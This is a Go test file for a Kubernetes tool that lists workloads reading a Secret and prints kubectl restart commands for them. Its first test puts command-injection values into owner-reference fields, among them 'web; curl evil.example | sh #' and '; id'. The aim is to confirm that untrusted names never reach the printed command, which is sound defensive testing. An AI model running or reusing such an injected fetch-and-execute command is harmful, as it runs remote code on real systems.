// SPDX-License-Identifier: Apache-2.0

package describe

import (
	"errors"
	"slices"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/kubernetes/fake"
	clienttesting "k8s.io/client-go/testing"
)

// TestConsumersIn_TakesNoOwnerReferenceAtItsWord: only objects that were listed are restarted, under their own names.
func TestConsumersIn_TakesNoOwnerReferenceAtItsWord(t *testing.T) {
	yes := true
	for name, tc := range map[string]struct{ version, kind, owner, want string }{
		"a Rollout":                   {"argoproj.io/v1alpha1", "Rollout", "canary", "Rollout.argoproj.io/canary: needs a restart"},
		"a Deployment of another":     {"evil.example/v1", "Deployment", "web", "Deployment.evil.example/web: needs a restart"},
		"a Deployment of the core":    {"v1", "Deployment", "other", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
		"another listed kind":         {"apps/v1", "Deployment", "other", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
		"a ReplicationController":     {"v1", "ReplicationController", "old", "ReplicationController/old: needs a restart"},
		"a command as the name":       {"evil.example/v1", "Deployment", "web; curl evil.example | sh #", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
		"a command as the kind":       {"evil.example/v1", "Deployment; id", "web", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
		"a command as the group":      {"evil.example; id/v1", "Deployment", "web", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
		"what is no version":          {"a/b/c", "Deployment", "web", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
		"a name that begins as flags": {"evil.example/v1", "Rollout", "--all", "StatefulSet/own: kubectl rollout restart statefulset/own -n support"},
	} {
		owned := metav1.ObjectMeta{Name: "own", OwnerReferences: []metav1.OwnerReference{{APIVersion: tc.version, Kind: tc.kind, Name: tc.owner, Controller: &yes}}}
		all := consumersIn([]workload{{"StatefulSet", &appsv1.StatefulSet{ObjectMeta: owned}, &corev1.PodTemplateSpec{Spec: reading["a variable"].pod}}}, "web")
		if got := all[0].title() + ": " + all[0].after("support"); len(all) != 1 || got != tc.want {
			t.Errorf("%s: %s", name, got)
		}
	}
}

// reading are Pods that read Secret "web" in one way each.
var reading = map[string]struct {
	pod     corev1.PodSpec
	uses    string
	restart bool
}{
	"not at all": {pod: pod(container(func(c *corev1.Container) {
		c.Env = []corev1.EnvVar{{Name: "KEY", ValueFrom: fromSecret("other")}, {Name: "PLAIN", Value: "web"}}
	}))},
	"a variable": {pod: pod(container(func(c *corev1.Container) {
		c.Env = []corev1.EnvVar{{Name: "KEY", ValueFrom: fromSecret("web")}}
	})), uses: "environment variable KEY of container app", restart: true},
	"all variables": {pod: pod(container(func(c *corev1.Container) {
		c.EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "web"}}}}
	})), uses: "environment variables of container app", restart: true},
	"a volume": {pod: mounting("", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "web"}}), uses: "volume at /key of container app"},
	"a projected volume": {pod: mounting("", corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
		{ConfigMap: &corev1.ConfigMapProjection{}},
		{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "web"}}},
	}}}), uses: "volume at /key of container app"},
	"a file of a volume": {
		pod: mounting("api-key", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "web"}}), uses: "file /key (subPath) of container app", restart: true,
	},
	"a volume of another": {pod: mounting("", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "other"}})},
	"an init container": {pod: corev1.PodSpec{InitContainers: []corev1.Container{container(func(c *corev1.Container) {
		c.Env = []corev1.EnvVar{{Name: "KEY", ValueFrom: fromSecret("web")}}
	})}}, uses: "environment variable KEY of init container app", restart: true},
	"a volume of an init container": {
		pod: ofInitContainer(mounting("", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "web"}}), ""), uses: "volume at /key of init container app", restart: true,
	},
	"a volume of a sidecar": {
		pod:  ofInitContainer(mounting("", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "web"}}), corev1.ContainerRestartPolicyAlways),
		uses: "volume at /key of init container app",
	},
	"a variable, a volume and an init container": {
		pod: together("a variable", "a volume", "an init container", "a volume"), restart: true,
		uses: "environment variable KEY of init container app; environment variable KEY of container app; volume at /key of container app",
	},
	"an ephemeral container": {
		pod: corev1.PodSpec{EphemeralContainers: []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
			Name: "debug", EnvFrom: []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "web"}}}},
		}}}}, uses: "environment variables of ephemeral container debug", restart: true,
	},
}

func ofInitContainer(p corev1.PodSpec, policy corev1.ContainerRestartPolicy) corev1.PodSpec {
	p.InitContainers, p.Containers = p.Containers, nil
	if policy != "" {
		p.InitContainers[0].RestartPolicy = &policy
	}
	return p
}

// together is a Pod with the containers and volumes of several.
func together(names ...string) (all corev1.PodSpec) {
	for _, name := range names {
		one := parts[name]
		all.InitContainers, all.Containers = append(all.InitContainers, one.InitContainers...), append(all.Containers, one.Containers...)
		all.Volumes = append(all.Volumes, one.Volumes...)
	}
	return all
}

// parts are Pods that others are put together from.
var parts = map[string]corev1.PodSpec{
	"a variable": pod(container(func(c *corev1.Container) { c.Env = []corev1.EnvVar{{Name: "KEY", ValueFrom: fromSecret("web")}} })),
	"a volume":   mounting("", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "web"}}),
	"an init container": {InitContainers: []corev1.Container{container(func(c *corev1.Container) {
		c.Env = []corev1.EnvVar{{Name: "KEY", ValueFrom: fromSecret("web")}}
	})}},
}

func container(change func(*corev1.Container)) corev1.Container {
	c := corev1.Container{Name: "app"}
	change(&c)
	return c
}

func pod(containers ...corev1.Container) corev1.PodSpec {
	return corev1.PodSpec{Containers: containers}
}

func fromSecret(name string) *corev1.EnvVarSource {
	return &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: name}, Key: "api-key"}}
}

func mounting(subPath string, source corev1.VolumeSource) corev1.PodSpec {
	p := pod(container(func(c *corev1.Container) {
		c.VolumeMounts = []corev1.VolumeMount{{Name: "key", MountPath: "/key", SubPath: subPath}}
	}))
	p.Volumes = []corev1.Volume{{Name: "key", VolumeSource: source}}
	return p
}

func TestUsesOf_FindsEveryWayToReadASecret(t *testing.T) {
	for name, tc := range reading {
		uses, restart := usesOf(&tc.pod, "web")
		if strings.Join(uses, "; ") != tc.uses || restart != tc.restart {
			t.Errorf("%s: %v, restart %t", name, uses, restart)
		}
	}
}

func meta(name, controller, kind string) metav1.ObjectMeta {
	m := metav1.ObjectMeta{Namespace: "support", Name: name}
	if controller != "" {
		yes := true
		m.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: kind, Name: controller, Controller: &yes}}
	}
	return m
}

// TestConsumersIn_MergesUsesAndKeepsTheWorstEffect, in whatever order the templates of a workload come.
func TestConsumersIn_MergesUsesAndKeepsTheWorstEffect(t *testing.T) {
	reloaded := map[string]string{reloaderAuto: "true"}
	template := func(name string, annotations map[string]string) workload {
		owned := meta(name, "canary", "Rollout")
		owned.OwnerReferences[0].APIVersion = "argoproj.io/v1alpha1"
		return workload{"ReplicaSet", &appsv1.ReplicaSet{ObjectMeta: owned}, &corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Annotations: annotations}, Spec: parts[name]}}
	}
	for name, tc := range map[string]struct {
		all      []workload
		effect   effect
		uses     int
		reloader bool
	}{
		"follows and restart": {[]workload{template("a volume", nil), template("a variable", nil)}, needsRestart, 2, false},
		"all three":           {[]workload{template("a volume", nil), template("a variable", nil), template("an init container", nil)}, needsRestart, 3, false},
		"the same twice":      {[]workload{template("a volume", nil), template("a volume", nil)}, follows, 1, false},
		"Reloader for one":    {[]workload{template("an init container", reloaded), template("a variable", nil)}, needsRestart, 2, false},
		"Reloader for worse":  {[]workload{template("a volume", nil), template("a variable", reloaded)}, needsRestart, 2, true},
	} {
		for range 2 {
			got := consumersIn(tc.all, "web")
			if len(got) != 1 || got[0].Kind != "Rollout" || got[0].Effect != tc.effect || len(got[0].Uses) != tc.uses || got[0].Reloader != tc.reloader {
				t.Errorf("%s: %+v", name, got)
			}
			slices.Reverse(tc.all)
		}
	}
}

// TestConsumersIn_NamesEveryWorkloadOnce, by the name that kubectl shows.
func TestConsumersIn_NamesEveryWorkloadOnce(t *testing.T) {
	variable, volume := corev1.PodTemplateSpec{Spec: reading["a variable"].pod}, corev1.PodTemplateSpec{Spec: reading["a volume"].pod}
	reloaded := meta("reloaded", "", "")
	reloaded.Annotations = map[string]string{reloaderSecrets: "db, web"}
	rollout := meta("canary-5d", "canary", "Rollout")
	rollout.OwnerReferences[0].APIVersion = "argoproj.io/v1alpha1"
	none := int32(0)
	old := meta("canary-4c", "canary", "Rollout")
	old.OwnerReferences = rollout.OwnerReferences
	ofCronJob := meta("nightly-1", "nightly", "CronJob")
	ofCronJob.OwnerReferences[0].APIVersion = "batch/v1"
	client := fake.NewClientset(
		&appsv1.Deployment{ObjectMeta: meta("api", "", ""), Spec: appsv1.DeploymentSpec{Template: variable}},
		&appsv1.Deployment{ObjectMeta: meta("mounted", "", ""), Spec: appsv1.DeploymentSpec{Template: volume}},
		&appsv1.Deployment{ObjectMeta: meta("other", "", ""), Spec: appsv1.DeploymentSpec{Template: corev1.PodTemplateSpec{Spec: reading["not at all"].pod}}},
		&appsv1.Deployment{ObjectMeta: reloaded, Spec: appsv1.DeploymentSpec{Template: variable}},
		&appsv1.ReplicaSet{ObjectMeta: meta("api-1", "api", "Deployment"), Spec: appsv1.ReplicaSetSpec{Template: variable}},
		&appsv1.ReplicaSet{ObjectMeta: rollout, Spec: appsv1.ReplicaSetSpec{Template: variable}},
		&appsv1.ReplicaSet{ObjectMeta: old, Spec: appsv1.ReplicaSetSpec{Template: variable, Replicas: &none}},
		&corev1.Pod{ObjectMeta: meta("api-1-x", "api-1", "ReplicaSet"), Spec: variable.Spec},
		&corev1.Pod{ObjectMeta: meta("by-hand", "", ""), Spec: variable.Spec},
		&corev1.Pod{ObjectMeta: meta("done", "", ""), Spec: variable.Spec, Status: corev1.PodStatus{Phase: corev1.PodSucceeded}},
		&batchv1.Job{ObjectMeta: ofCronJob, Spec: batchv1.JobSpec{Template: variable}},
		&batchv1.Job{ObjectMeta: meta("once", "", ""), Spec: batchv1.JobSpec{Template: variable}},
		&batchv1.CronJob{ObjectMeta: meta("nightly", "", ""), Spec: batchv1.CronJobSpec{JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: variable}}}},
	)
	client.PrependReactor("list", "statefulsets", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, apierrors.NewForbidden(schema.GroupResource{Group: "apps", Resource: "statefulsets"}, "", errors.New("no"))
	})
	workloads, notes, err := workloadsOf(t.Context(), client, "support")
	if err != nil || len(notes) != 1 || !strings.Contains(notes[0], "statefulsets.apps") {
		t.Errorf("%v, %v", notes, err)
	}
	var got []string
	for _, c := range consumersIn(workloads, "web") {
		got = append(got, c.title()+": "+c.after("support"))
	}
	want := []string{
		"CronJob/nightly: its next run has the new key", "Deployment/api: kubectl rollout restart deployment/api -n support",
		"Deployment/mounted: the file changes within about a minute", "Deployment/reloaded: restarted by Reloader", "Job/once: needs a restart",
		"Pod/by-hand: needs a restart", "Rollout.argoproj.io/canary: needs a restart",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("%s", strings.Join(got, "\n"))
	}
}
